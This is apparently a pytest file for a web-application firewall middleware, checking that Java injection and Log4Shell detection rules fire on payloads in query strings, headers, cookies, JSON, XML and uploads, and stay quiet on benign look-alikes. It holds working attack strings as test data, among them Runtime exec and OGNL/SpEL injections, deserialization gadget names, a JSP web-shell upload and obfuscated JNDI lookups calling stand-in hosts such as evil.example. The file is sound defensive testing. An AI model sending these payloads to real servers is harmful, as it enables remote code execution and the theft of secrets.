"""Java (944xxx) and Log4Shell (944150/944151).

The rules' own examples, a property test for the base64 keyword fragments, then
whole requests through the engine (payload in a query parameter, a header, a
cookie, a JSON body, an XML body, a file name) and through the ASGI middleware,
and benign look-alikes that must stay quiet.
"""

from __future__ import annotations

import base64
from typing import Any

import pytest
from detect_harness import Req, asgi_signals, engine_signals, fired, rule_examples, rules_of, types
from hypothesis import given, settings
from hypothesis import strategies as st

from devsecmw.engine.rules import Rule

JAVA = {"java", "log4shell"}


# --------------------------------------------------------------------------- rule examples
@pytest.mark.parametrize(("rule", "example", "should_match"), rule_examples("944-java.json"))
def test_rule_examples(rule: Rule, example: str, should_match: bool) -> None:
    assert (rule.matches_value(example) is not None) is should_match


_B64_RULE = next(r for r in rules_of("944-java.json") if r.id == "944300")


@settings(max_examples=200, deadline=None)
@given(
    keyword=st.sampled_from(
        [b"runtime", b"ProcessBuilder", b"InvokerTransformer", b"getRuntime", b"xmldecoder"]
    ),
    prefix=st.binary(max_size=7),
    suffix=st.binary(max_size=7),
)
def test_base64_keyword_found_at_any_alignment(keyword: bytes, prefix: bytes, suffix: bytes) -> None:
    """Whatever bytes surround the keyword, its base64 text contains one of the fragments."""
    encoded = base64.b64encode(prefix + keyword + suffix).decode()
    assert _B64_RULE.matches_value(encoded) is not None


# --------------------------------------------------------------------------- whole requests
XML = "application/xml"


def xml(body: str) -> Req:
    return Req("/api/xml", "POST", body=body.encode(), content_type=XML)


JAVA_CASES = [
    (Req.query("q", "java.lang.Runtime.getRuntime().exec('id')"), "java", "query:q", "944100"),
    (
        Req.form("class.module.classLoader.resources.context.parent.pipeline.first.pattern", "x"),
        "java",
        "body:form:class.module.classLoader.resources.context.parent.pipeline.first.pattern",
        "944100",
    ),
    (
        Req.header(
            "content-type", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}"
        ),
        "java",
        "header:content-type",
        "944110",
    ),
    (Req.query("name", "${T(java.lang.Runtime).getRuntime().exec('id')}"), "java", "query:name", "944110"),
    (
        Req.json_body({"data": "org.apache.commons.collections.functors.InvokerTransformer"}),
        "java",
        "body:json:data",
        "944130",
    ),
    (Req.header("cookie", "test=ProcessBuilder.evil.clonetransformer"), "java", "cookie:test", "944120"),
    (Req.header("x-token", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA"), "java", "header:x-token", "944200"),
    (Req.json_body({"cnVudGltZQ": "test"}), "java", "body:json:cnVudGltZQ", "944300"),
    (
        xml('<?xml version="1.0"?><xml><element attribute_name="cHJvY2Vzc2J1aWxkZXI">v</element></xml>'),
        "java",
        "body",
        "944300",
    ),
    (
        xml(
            '<map><entry><next class="java.lang.ProcessBuilder"><command><string>id</string></command>'
            "</next></entry></map>"
        ),
        "java",
        "body",
        "944100",
    ),
    (Req.header("x-filename", "shell.jsp "), "java", "header:x-filename", "944140"),
    (
        Req.header("cookie", "java.io.BufferedInputStream=x"),
        "java",
        "cookie:java.io.BufferedInputStream",
        "944135",
    ),
    (Req.json_body({"type": "org.apache.commons"}), "java", "body:json:type", "944135"),
]

LOG4SHELL_CASES = [
    (Req.header("user-agent", "Mozilla/5.0 ${jndi:ldap://evil.example/a}"), "header:user-agent"),
    (Req.header("x-api-version", "${${lower:j}ndi:${lower:l}dap://x.example/a}"), "header:x-api-version"),
    (Req.query("q", "${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/a}"), "query:q"),
    (Req.query("q", "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D"), "query:q"),
    (Req.json_body({"foo": "$\\u007Bjndi:ldap://evil.example/a}"}), "body:json:foo"),
    (Req.json_body({"foo": "%24&lcub;\\u006A&#110;di:ldap://evil.example/a}"}), "body:json:foo"),
    (Req.form("foo", "$${env:x:-${env:y:-$}{jndi:ldap://evil.example/a}}}"), "body:form:foo"),
    (Req.header("cookie", "lang=${jndi:dns://x.example}"), "cookie:lang"),
    (Req.path("/${jndi:ldap://evil.example/a}"), "path"),
    (xml('<?xml version="1.0"?><tag attribute="${jndi:ldap://evil.example/a}"/>'), "body"),
]


@pytest.mark.parametrize(("req", "type_", "location", "rule_id"), JAVA_CASES)
def test_java_detected(req: Req, type_: str, location: str, rule_id: str) -> None:
    assert (type_, location, rule_id) in fired(engine_signals(req))


@pytest.mark.parametrize(("req", "location"), LOG4SHELL_CASES)
def test_log4shell_detected(req: Req, location: str) -> None:
    assert ("log4shell", location, "944150") in fired(engine_signals(req))


def test_log4shell_in_the_host_header() -> None:
    """Host is not a generic header target; the header block (``headers.raw``) carries it."""
    req = Req.header("host", "${jndi:ldap://evil.example/a}")
    assert ("log4shell", "headers", "944152") in fired(engine_signals(req))


def test_multipart_jsp_upload() -> None:
    body = (
        b'--b\r\nContent-Disposition: form-data; name="file"; filename="shell.jspx.."\r\n'
        b"Content-Type: text/plain\r\n\r\n<% out.println(1); %>\r\n--b--\r\n"
    )
    req = Req("/upload", "POST", body=body, content_type="multipart/form-data; boundary=b")
    assert ("java", "body:multipart:file:filename", "944140") in fired(engine_signals(req))


def test_serialized_stream_in_a_form_field() -> None:
    req = Req("/post", "POST", body=b"test=%AC%ED%00%05sr", content_type="application/x-www-form-urlencoded")
    assert ("java", "body:form:test", "944200") in fired(engine_signals(req))


def test_log4j_lookup_prefix_only_at_paranoia_2() -> None:
    req = Req.query("q", "${env:AWS_SECRET_ACCESS_KEY}")
    assert not types(engine_signals(req)) & JAVA
    assert ("log4shell", "query:q", "944151") in fired(engine_signals(req, paranoia=2))


def test_through_the_asgi_middleware(otel: Any) -> None:
    events = asgi_signals(Req.header("user-agent", "${jndi:ldap://evil.example/a}"), otel)
    hits = {
        (e["devsecmw.signal.type"], e["devsecmw.signal.location"], e.get("security_rule.uuid"))
        for e in events
    }
    assert ("log4shell", "header:user-agent", "944150") in hits


BENIGN = [
    Req.query("q", "Install the Java Runtime Environment from java.com"),
    Req.query("q", "java runtime download"),
    Req.form(
        "report",
        "java.io.FileNotFoundException: /tmp/x\n\tat java.io.FileInputStream.open0(Native Method)\n"
        "\tat org.apache.commons.io.FileUtils.readFileToString(FileUtils.java:1)\n"
        "\tat java.lang.Thread.run(Thread.java:748)",
    ),
    Req.json_body({"template": "Hello ${name}, your order ${order.id} ships today"}),
    Req.query("path", "${HOME}/bin:${PATH}"),
    Req.query("q", "rose garden"),
    Req.query("discount", "50% {off} today"),
    Req.header("x-request-id", "H4sIAAAAAAAAA-but-not-java"),
    Req.json_body({"avatar": base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(range(256))).decode()}),
    Req.query("size", "T(shirt) XL"),
    Req.form("note", "The runtime of the movie is 2 hours; getProperty was null"),
]


@pytest.mark.parametrize("req", BENIGN)
def test_benign_look_alikes_pass(req: Req) -> None:
    assert not types(engine_signals(req)) & JAVA
